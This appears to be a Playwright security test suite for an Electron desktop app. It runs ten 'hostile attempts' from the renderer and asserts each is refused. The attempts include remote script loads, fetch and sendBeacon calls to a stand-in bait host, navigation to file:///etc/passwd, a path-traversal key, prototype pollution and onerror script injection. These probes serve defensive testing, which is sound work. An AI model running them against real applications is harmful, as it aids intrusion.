import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { expect, test } from '@playwright/test';
import { attemptsIn } from './support/attempt.ts';
import { openBait, type Bait } from './support/bait.ts';
import { ask } from './support/bridge.ts';
import { launch } from './support/launch.ts';
import type { Launched } from './support/launched.ts';
import { watchFrames } from './support/responsiveness.ts';
import { differsBy } from './support/tags.ts';

/** Far above what one request may be (2.1 MB), and below what Chromium itself refuses to carry. */
const OVERSIZED_CHARACTERS = 64 * 1024 ** 2;
/** A window that hangs while it is refused; copying the message itself takes a part of it. */
const HUNG_MS = 3000;
const POLICY =
  /^default-src 'none'; script-src 'self'; style-src 'self' 'nonce-[A-Za-z0-9+/=]+'; img-src 'self' data:; font-src 'self'; connect-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'$/;

let desktop: Launched;
let bait: Bait;
let attempt: ReturnType<typeof attemptsIn>;
test.beforeAll(async () => {
  desktop = await launch();
  bait = await openBait();
  attempt = attemptsIn(desktop.page);
});
test.afterAll(async () => {
  bait.close();
  await desktop.close();
});

test(
  'the page carries the strict policy, with a nonce of its own each time',
  differsBy('@files'),
  async () => {
    const policies: string[] = [];
    for (const _time of ['first', 'second']) {
      const headers = (await desktop.page.reload())?.headers() ?? {};
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect(headers['cross-origin-opener-policy']).toBe('same-origin');
      policies.push(headers['content-security-policy'] ?? '');
      expect(policies.at(-1)).toMatch(POLICY);
    }
    expect(policies[0]).not.toBe(policies[1]);
  },
);

test(
  'hostile attempt 1, Node: the page has nothing of Node or Electron, and no way to it',
  differsBy('@user'),
  async () => {
    for (const name of ['require', 'process', 'Buffer', 'module', 'global', 'ipcRenderer', 'electron']) {
      expect(await attempt(`typeof globalThis.${name}`), name).toBe('undefined');
    }
    expect(await attempt('Object.keys(capsuleDesktop).sort()')).toBe('on,request');
    // A function of the preload's own world would lead out of the page by its constructor.
    const escapes = ['request', 'on'].map((name) => `capsuleDesktop.${name}.constructor === Function`);
    for (const escape of [...escapes, 'capsuleDesktop.constructor === Object']) {
      expect(await attempt(escape), escape).toBe('true');
    }
    expect(await attempt(`import('node:fs')`)).toContain('TypeError');
    await attempt(`void (capsuleDesktop.request = () => 'mine')`);
    expect(await ask(desktop.page, 'state.snapshot', null)).toMatchObject({ ok: true });
  },
);

/** Elements that load something, and which of their properties says what. */
const loaders = [
  ['script', 'src'],
  ['img', 'src'],
  ['link', 'href'],
] as const;
const embedders = [
  ['iframe', 'src'],
  ['object', 'data'],
  ['embed', 'src'],
] as const;

/** Puts an element into the page and tells what was heard of it. */
const load = (name: string, property: string, url: string): string =>
  `new Promise((told) => {
    const element = Object.assign(document.createElement('${name}'), { ${property}: '${url}', rel: 'stylesheet' });
    element.onload = () => told('loaded');
    element.onerror = () => told('refused');
    document.body.append(element);
  })`;

/** Puts an element into the page that would have a document of its own; not all of them tell of a refusal. */
const embed = (name: string, property: string, url: string): string =>
  `void document.body.append(Object.assign(document.createElement('${name}'), { ${property}: '${url}' }))`;

test(
  'hostile attempt 2, remote load: nothing comes from a network or a file, by any element or call',
  differsBy('@user'),
  async () => {
    const file = join(desktop.dataDir, 'planted.js');
    writeFileSync(file, 'globalThis.planted = true;', { mode: 0o644 });
    for (const url of [`http://${bait.host}/x`, `https://${bait.host}/x`, pathToFileURL(file).href]) {
      for (const [name, property] of loaders) {
        expect(await attempt(load(name, property, url)), `${name} ${url}`).toBe('refused');
      }
      for (const [name, property] of embedders) {
        await attempt(embed(name, property, url));
      }
      expect(await attempt(`fetch('${url}')`), url).toContain('Failed to fetch');
      expect(await attempt(`import('${url}')`), url).toContain('TypeError');
      expect(await attempt(`new Worker('${url}')`), url).toContain('SecurityError');
    }
    expect(await attempt(`fetch('app://capsule-desktop/index.html')`)).toContain('Failed to fetch');
    expect(
      await attempt(
        `new Promise((told) => { const socket = new WebSocket('ws://${bait.host}/x'); socket.onopen = () => told('open'); socket.onerror = () => told('refused'); })`,
      ),
    ).toMatch(/refused|SecurityError/);
    await attempt(`navigator.sendBeacon('http://${bait.host}/x', 'told')`);
    expect(await attempt('typeof globalThis.planted')).toBe('undefined');
    // What is embedded is at most Chromium's own words about the refusal.
    const shown = desktop.page.frames().map((frame) => frame.url());
    expect(shown.filter((url) => !/^(app|chrome-error):|^(about:blank)?$/.test(url))).toEqual([]);
    expect(bait.asked).toEqual([]);
  },
);

test('hostile attempt 3, window.open: the page opens no window', differsBy('@user'), async () => {
  for (const url of [`http://${bait.host}/`, 'https://example.com/', 'about:blank', 'file:///etc/passwd']) {
    expect(await attempt(`window.open('${url}')`), url).toBe('null');
  }
  const link = `Object.assign(document.createElement('a'), { href: 'http://${bait.host}/', target: '_blank' }).click()`;
  await attempt(link);
  await ask(desktop.page, 'state.snapshot', null);
  const pages = desktop.page.context().pages();
  // Those of guests are opened by the application itself.
  expect(pages.filter((page) => !page.url().startsWith('guest:'))).toHaveLength(1);
  expect(bait.asked).toEqual([]);
});

test('hostile attempt 4, navigation: the page goes nowhere', differsBy('@user'), async () => {
  const shown = desktop.page.url();
  for (const target of [`http://${bait.host}/`, 'file:///etc/passwd', 'app://capsule-desktop/assets/']) {
    await attempt(`void (location.href = ${JSON.stringify(target)})`);
    // A round trip through main: a navigation that was let through would have begun by then.
    await ask(desktop.page, 'state.snapshot', null);
    expect(desktop.page.url()).toBe(shown);
  }
  expect(bait.asked).toEqual([]);
});

test(
  'a page that blanks itself, which Chromium does not let us prevent, comes back',
  differsBy('@user'),
  async () => {
    const shown = desktop.page.url();
    const blanked = desktop.page.waitForURL('about:blank', { waitUntil: 'commit' });
    await desktop.page.evaluate(`void setTimeout(() => { location.href = 'about:blank'; })`);
    await blanked;
    await desktop.page.waitForURL(shown);
    expect(await ask(desktop.page, 'state.snapshot', null)).toMatchObject({ ok: true });
  },
);

test('hostile attempt 5, permission: every one is denied', differsBy('@user'), async () => {
  for (const name of ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi']) {
    expect(await attempt(`navigator.permissions.query({ name: '${name}' }).then((p) => p.state)`), name).toBe(
      'denied',
    );
  }
  expect(await attempt('Notification.requestPermission()')).toBe('denied');
  expect(await attempt('navigator.mediaDevices.getUserMedia({ audio: true })')).toMatch(
    /NotAllowed|NotFound/,
  );
});

test(
  'hostile attempt 6, unlisted channel: a name outside the contract is refused before it leaves the page',
  differsBy('@user'),
  async () => {
    for (const name of [
      'toString',
      '__proto__',
      'constructor',
      'kernel.dispose',
      'ELECTRON_BROWSER_REQUIRE',
      '',
    ]) {
      for (const call of [`request(${JSON.stringify(name)}, null)`, `on(${JSON.stringify(name)}, () => 0)`]) {
        expect(await attempt(`capsuleDesktop.${call}`), call).toContain('not part of the contract');
      }
    }
  },
);

test(
  'hostile attempt 7, forged sender: no frame the page makes has the bridge or shows a page that has',
  differsBy('@user'),
  async () => {
    const { page } = desktop;
    const frames = [
      ['about:blank', ''],
      ['srcdoc', `frame.srcdoc = '<p>';`],
      ['our own page', `frame.src = 'app://capsule-desktop/index.html';`],
      [
        'sandboxed',
        `frame.sandbox = 'allow-scripts'; frame.srcdoc = '<script>parent.postMessage(1)</script>';`,
      ],
    ] as const;
    for (const [what, set] of frames) {
      const attached = page.waitForEvent('frameattached');
      await page.evaluate(
        `(() => { const frame = document.createElement('iframe'); ${set} document.body.append(frame); })()`,
      );
      const frame = await attached;
      // As the frame's own script, had the policy let it have one.
      await frame.waitForLoadState();
      const inFrame = attemptsIn(frame);
      expect(await inFrame('typeof globalThis.capsuleDesktop'), what).toBe('undefined');
      expect(await inFrame('typeof globalThis.require'), what).toBe('undefined');
      expect(frame.url(), what).not.toContain('index.html');
      if (what === 'sandboxed') {
        expect(await inFrame('parent.capsuleDesktop'), what).toContain('SecurityError');
      }
      await page.evaluate('document.body.lastElementChild.remove()');
    }
  },
);

test(
  'hostile attempt 8, oversized message: refused with words, and the window stays alive',
  differsBy('@user'),
  async () => {
    const frames = await watchFrames(desktop.page);
    const huge = `'x'.repeat(${OVERSIZED_CHARACTERS})`;
    const messages = [
      `'process.kill', { key: ${huge} }`,
      `'capsule.remove', { id: ${huge} }`,
      `'state.snapshot', ${huge}`,
      `'install.confirm', { token: 'x', grants: Array.from({ length: 1e6 }, () => 'process') }`,
      `'capsule.invoke', { id: 'repl', action: 'x', payload: ${huge}, principal: 'default', call: 'x' }`,
    ];
    for (const message of messages) {
      const code = `capsuleDesktop.request(${message}).then((reply) => reply.error.code)`;
      expect(await attempt(code), message).toBe('too-large');
    }
    expect(await ask(desktop.page, 'state.snapshot', null)).toMatchObject({ ok: true });
    expect((await frames()).longest).toBeLessThan(HUNG_MS);
  },
);

test(
  'hostile attempt 9, prototype pollution: what is refused stays refused, and nothing inherits from it',
  differsBy('@user'),
  async () => {
    const code = (name: string, argument: string): string =>
      `capsuleDesktop.request('${name}', JSON.parse('${argument}')).then((reply) => reply.ok ? 'done' : reply.error.code)`;
    for (const poison of ['__proto__', 'constructor', 'prototype']) {
      // What is sent beside the key is refused or, as a prototype, left behind; either way the key names nothing.
      const beside = `{"${poison}":{"token":"x","prototype":{"token":"x"}},"key":"0123456789abcdef"}`;
      expect(await attempt(code('process.kill', beside)), poison).toMatch(
        /^(invalid-argument|no-such-process)$/,
      );
      const inherited = `{"${poison}":{"token":"x"}}`;
      expect(await attempt(code('install.cancel', inherited)), poison).toBe('invalid-argument');
      // Main would now find the token that is not there, had the poison reached a prototype.
      expect(await attempt(code('install.cancel', '{}')), poison).toBe('invalid-argument');
    }
    expect(await attempt('Object.keys(Object.prototype).length')).toBe('0');
    expect(await ask(desktop.page, 'process.kill', { key: '../../etc/passwd' })).toMatchObject({
      ok: false,
      error: { code: 'invalid-argument' },
    });
  },
);

test('hostile attempt 10, eval: text is never run as code', differsBy('@user'), async () => {
  expect(await attempt(`eval('1 + 1')`)).toContain('EvalError');
  expect(await attempt(`new Function('return 1')()`)).toContain('EvalError');
  await attempt(`void setTimeout('globalThis.evaluated = true')`);
  await attempt(
    `void document.body.append(Object.assign(document.createElement('script'), { textContent: 'globalThis.evaluated = true' }))`,
  );
  await attempt(
    `void document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="evaluated = true">')`,
  );
  expect(await attempt(`import('data:text/javascript,globalThis.evaluated = true')`)).toContain('TypeError');
  expect(await attempt('WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0))')).toContain(
    'CompileError',
  );
  expect(await attempt('typeof globalThis.evaluated')).toBe('undefined');
});
